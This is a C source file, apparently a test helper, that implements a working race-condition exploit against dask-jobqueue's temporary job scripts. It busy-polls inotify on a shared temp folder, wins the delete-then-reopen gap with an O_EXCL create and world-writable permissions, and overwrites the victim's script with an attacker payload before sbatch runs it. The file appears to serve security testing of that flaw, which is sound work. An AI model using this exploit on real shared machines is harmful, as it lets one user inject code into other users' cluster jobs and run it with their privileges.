/* An attacker for tests/test_attack_batch.py: another user of the machine who watches a shared
 * temporary folder and rewrites the job scripts written there before they are submitted.
 *
 *   job_script_watcher FOLDER PAYLOAD LOG
 *
 * dask-jobqueue writes a job script with dask.utils.tmpfile: mkstemp creates "tmpXXXXXXXX.sh",
 * which is closed and deleted, and the name is opened again (O_CREAT|O_TRUNC, no O_EXCL) to
 * write the script. The moment a new *.sh name appears (IN_CREATE), this watcher tries to
 * create that name itself, O_EXCL, in a tight loop: it succeeds in the gap between the owner's
 * delete and open, makes the file writable by anyone, and keeps it open. With
 * fs.protected_regular=0 the owner's open then writes into the attacker's file; when the owner
 * closes it (IN_CLOSE_WRITE), the watcher replaces the content with PAYLOAD, before sbatch reads
 * the file. The gap is tens of microseconds: a Python watcher, or one that sleeps in read(),
 * is too slow; this one polls inotify in a busy loop and wins a share of them.
 *
 * LOG gets one line per event: "seen NAME", "claimed NAME", "replaced NAME".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_CLAIMS 4096
#define SPIN_NS 30000000L /* try to take a name for at most 30 ms */

static char folder[PATH_MAX];
static char *payload;
static size_t payload_size;
static FILE *log_file;
static char *claimed_names[MAX_CLAIMS];
static int claimed_fds[MAX_CLAIMS];
static int claims;

static long now_ns(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000000000L + t.tv_nsec;
}

static int is_script(const char *name) {
  size_t n = strlen(name);
  return n > 3 && strcmp(name + n - 3, ".sh") == 0;
}

static int claim_index(const char *name) {
  for (int i = 0; i < claims; i++)
    if (strcmp(claimed_names[i], name) == 0) return i;
  return -1;
}

static void note(const char *what, const char *name) {
  fprintf(log_file, "%s %s\n", what, name);
  fflush(log_file);
}

/* Create NAME before its owner opens it again; returns 1 when taken. */
static int take(const char *name, long spin_ns) {
  char path[2 * PATH_MAX];
  snprintf(path, sizeof path, "%s/%s", folder, name);
  long deadline = now_ns() + spin_ns;
  do {
    int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0666); /* umask 0: writable by all */
    if (fd >= 0) {
      if (claims < MAX_CLAIMS) {
        claimed_names[claims] = strdup(name);
        claimed_fds[claims++] = fd;
      }
      note("claimed", name);
      return 1;
    }
    if (errno != EEXIST) return 0;
  } while (now_ns() < deadline);
  return 0;
}

static void replace(int index) {
  int fd = claimed_fds[index];
  struct stat info;
  /* only once the owner has written (not at the close of its first, deleted file) */
  if (fstat(fd, &info) != 0 || info.st_size == 0 || (size_t)info.st_size == payload_size) return;
  if (ftruncate(fd, 0) == 0 && pwrite(fd, payload, payload_size, 0) == (ssize_t)payload_size)
    note("replaced", claimed_names[index]);
}

int main(int argc, char **argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: %s FOLDER PAYLOAD LOG\n", argv[0]);
    return 2;
  }
  umask(0); /* the owner's open must be allowed to write into the files taken */
  snprintf(folder, sizeof folder, "%s", argv[1]);
  FILE *source = fopen(argv[2], "rb");
  if (!source) return perror("payload"), 1;
  payload = malloc(65536);
  payload_size = fread(payload, 1, 65536, source);
  fclose(source);
  log_file = fopen(argv[3], "a");
  if (!log_file) return perror("log"), 1;

  /* non-blocking, read in a busy loop: waking up from a blocking read takes longer than the
   * owner's gap between delete and open */
  int watch = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
  if (watch < 0 || inotify_add_watch(watch, folder, IN_CREATE | IN_DELETE | IN_CLOSE_WRITE) < 0)
    return perror("inotify"), 1;
  note("watching", folder);

  char buffer[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
  for (;;) {
    ssize_t length = read(watch, buffer, sizeof buffer);
    if (length <= 0) {
      if (errno == EAGAIN || errno == EINTR) continue;
      return 1;
    }
    for (char *at = buffer; at < buffer + length;) {
      struct inotify_event *event = (struct inotify_event *)at;
      at += sizeof(struct inotify_event) + event->len;
      if (!event->len || !is_script(event->name)) continue;
      int index = claim_index(event->name);
      if (event->mask & IN_CREATE && index < 0) {
        take(event->name, SPIN_NS); /* at once: even writing a log line takes too long */
        note("seen", event->name);
      } else if (event->mask & IN_DELETE && index < 0) {
        take(event->name, 0);
      } else if (event->mask & IN_CLOSE_WRITE && index >= 0) {
        replace(index);
      }
    }
  }
}
